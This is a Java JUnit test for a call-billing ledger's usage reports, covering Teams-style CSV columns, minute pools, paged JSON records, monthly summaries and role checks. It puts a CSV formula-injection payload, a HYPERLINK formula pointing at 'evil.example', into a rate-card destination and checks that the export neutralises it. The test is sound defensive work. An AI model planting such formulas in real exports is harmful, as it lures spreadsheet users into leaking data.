package org.commcredits.ledger.apps;

import org.commcredits.ledger.platform.testing.H2TestDatabase;
import org.commcredits.ledger.platform.testing.LedgerHttp;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import java.time.YearMonth;
import java.time.ZoneOffset;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** The usage reports in Microsoft's shapes, and CSV formula injection, through HTTP on the standalone application. */
class UsageReportsH2Test {

    private static final String EVIL = "+HYPERLINK(\"http://evil.example/?leak\",\"Click for refund\")";
    private static final String RATES = """
            prefix,destination,perMinute,connectionFee,currency,effectiveFrom
            1,United States,0.0200,0.0000,USD,2020-01-01
            44,"+HYPERLINK(""http://evil.example/?leak"",""Click for refund"")",0.0300,0.0100,USD,2020-01-01
            """;

    @Test
    @DisplayName("INV-IN-06: a rate-card destination written as a formula reaches records.csv neutralised; the Teams columns and minute pools")
    void canReportUsageInTeamsShapesWithoutLiveFormulas() throws InterruptedException {
        try (RunningLedger ledger = RunningLedger.start(StandaloneApplication.class, H2TestDatabase.memoryUrl("reports"), "sa")) {
            LedgerHttp http = ledger.http();
            String t = "/api/tenants/fabrikam";
            FundedTenants.open(http, "fabrikam");
            FundedTenants.fund(http, "fabrikam", "100.00", "reports-funds");
            assertThat(http.sendRaw("rates_admin", "PUT", "/api/rate-cards/evil", "text/csv", RATES).status()).isEqualTo(200);
            for (String sku : new String[] {"TEAMS_PHONE", "CALLING_PLAN_DOMESTIC", "CALLING_PLAN_PAYG"}) {
                assertThat(http.post("license_admin", t + "/subscriptions", "{\"sku\":\"" + sku + "\",\"seats\":5}").status())
                        .isEqualTo(201);
            }
            user(http, t, "ann", "TEAMS_PHONE", "CALLING_PLAN_PAYG", "COMMUNICATION_CREDITS");
            user(http, t, "ben", "TEAMS_PHONE", "CALLING_PLAN_DOMESTIC");
            call(http, t, "london", "ann", "+442071234567");
            long last = call(http, t, "home", "ben", "+12025550123");

            String month = YearMonth.now(ZoneOffset.UTC).toString();
            String csv = http.get("finance_reader", t + "/usage/records.csv?month=" + month + "&minSequence=" + last).body();
            List<String> lines = csv.lines().toList();
            assertThat(lines.get(0)).startsWith("UsageId,UserId,UsageLocation,CallType,Destination,DestinationName,")
                    .endsWith(",Call ID,Conference ID,User principal name,Phone number,Call type,Destination dialed,"
                            + "Destination number,Domestic/International,Connection fee,Charge (report),Currency (ISO 4217),Capability");
            String london = lines.stream().filter(l -> l.startsWith("london,")).findFirst().orElseThrow();
            assertThat(london).doesNotContain("," + "\"" + EVIL.substring(0, 5)).contains("\"'+HYPERLINK(")
                    .contains(",+442071234567,").contains(",user_out,").contains(",International,0.01,0.04,USD,MCOPSTNPP");
            String home = lines.stream().filter(l -> l.startsWith("home,")).findFirst().orElseThrow();
            assertThat(home).contains(",+12025550123,").contains(",Domestic,").endsWith(",MCOPSTN1");

            String pools = http.get("finance_reader", t + "/usage/minute-pools.csv?month=" + month).body();
            assertThat(pools.lines().toList()).containsExactly(
                    "Country or region,Capability description,Total minutes,Minutes used,Minutes available,Capability",
                    "US,Domestic Calling Plan,3000,1,2999,MCOPSTN1");
            assertThat(http.get("telephony", t + "/usage/minute-pools.csv?month=" + month).status()).isEqualTo(403);
            assertThat(http.get("finance_reader", t + "/usage/minute-pools.csv?month=13").code()).isEqualTo("INVALID_MONTH");

            // the same calls as JSON pages, and the month summed by the API (the console's usage report reads these)
            LedgerHttp.Answer first = http.get("finance_reader", t + "/usage/records?month=" + month + "&limit=1");
            assertThat(first.json().get("items").findValuesAsText("callId")).containsExactly("london");
            assertThat(first.json().get("items").get(0).get("charge").asText()).isEqualTo("0.04");
            LedgerHttp.Answer second = http.get("finance_reader", t + "/usage/records?month=" + month + "&limit=1&after="
                    + first.json().get("next").asText());
            assertThat(second.json().get("items").findValuesAsText("callId")).containsExactly("home");
            assertThat(second.json().get("next").isNull()).isTrue();
            com.fasterxml.jackson.databind.JsonNode summary = http.get("finance_reader", t + "/usage/summary?month=" + month).json();
            assertThat(summary.get("calls").asLong()).isEqualTo(2);
            assertThat(summary.get("days")).hasSize(YearMonth.parse(month).lengthOfMonth());
            java.math.BigDecimal spent = java.math.BigDecimal.ZERO;
            long counted = 0;
            for (com.fasterxml.jackson.databind.JsonNode day : summary.get("days")) {
                spent = spent.add(new java.math.BigDecimal(day.get("spend").asText()));
                counted += day.get("calls").asLong();
            }
            assertThat(spent).isEqualByComparingTo("0.04");
            assertThat(counted).isEqualTo(2);
            assertThat(summary.get("topDestinations").get(0).get("spend").asText()).isEqualTo("0.04");
            assertThat(summary.get("topDestinations").get(0).get("country").asText()).isEqualTo("GB");
            assertThat(http.get("telephony", t + "/usage/summary?month=" + month).status()).isEqualTo(403);
            assertThat(http.get("finance_reader", t + "/usage/records?month=2026-13").code()).isEqualTo("INVALID_MONTH");
            assertThat(http.get("finance_reader", t + "/usage/records?month=" + month + "&after=x").code()).isEqualTo("INVALID_PAGING");
        }
    }

    private static void user(LedgerHttp http, String t, String user, String... skus) throws InterruptedException {
        assertThat(http.put("license_admin", t + "/users/" + user + "/usage-location", "{\"country\":\"US\"}").status())
                .isEqualTo(200);
        for (String sku : skus) {
            int status = 0;
            for (int i = 0; i < 50 && status != 201; i++) { // Communication Credits seats follow the funding
                status = http.post("license_admin", t + "/users/" + user + "/licenses", "{\"sku\":\"" + sku + "\"}").status();
                if (status != 201) {
                    Thread.sleep(100);
                }
            }
            assertThat(status).as(sku).isEqualTo(201);
        }
    }

    private static long call(LedgerHttp http, String t, String call, String user, String destination) {
        LedgerHttp.Answer authorized = http.post("telephony", t + "/calls/" + call + "/authorize",
                "{\"userId\":\"" + user + "\",\"destination\":\"" + destination + "\",\"callType\":\"OUTBOUND\"}");
        assertThat(authorized.json().get("decision").asText()).as(authorized.body()).isEqualTo("ALLOW");
        LedgerHttp.Answer completed = http.post("telephony", t + "/calls/" + call + "/complete", "{\"durationSeconds\":60}");
        assertThat(completed.status()).as(completed.body()).isEqualTo(200);
        return completed.sequence();
    }
}
